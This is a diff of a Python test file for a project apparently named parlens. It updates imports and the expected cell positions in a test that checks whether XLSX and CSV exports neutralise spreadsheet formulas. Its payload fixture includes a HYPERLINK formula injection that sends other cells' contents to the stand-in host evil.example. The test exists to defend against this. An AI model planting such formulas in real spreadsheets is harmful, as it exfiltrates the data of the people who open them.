@@ -17,9 +17,8 @@ from openpyxl import Workbook, load_workbook
 from typer.testing import CliRunner
 
 from parlens.model import CriterionLink, Deadline, Document, DocumentMetadata, Task
+from parlens.reports import formats, responsibility
 from parlens.search_api.cli import app
-from parlens.task_extraction import formats
-from parlens.task_extraction.criteria import responsibility
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&B2&C2,"Bấm vào đây")',
@@ -80,8 +79,8 @@ def test_task_xlsx_has_no_formula_and_keeps_the_text(tasks):
     for payload in PAYLOADS:
         assert payload.replace("\r", "\n") in values or payload in values
     ws = load_workbook(io.BytesIO(data)).active
-    assert ws["D2"].value == PAYLOADS[0] and ws["D2"].data_type == "s" and ws["D2"].quotePrefix
-    assert ws["B8"].value == "Sở Nội vụ" and not ws["B8"].quotePrefix
+    assert ws["F2"].value == PAYLOADS[0] and ws["F2"].data_type == "s" and ws["F2"].quotePrefix
+    assert ws["C8"].value == "Sở Nội vụ" and not ws["C8"].quotePrefix
 
 
 def test_task_csv_prefixes_formula_cells(tasks):
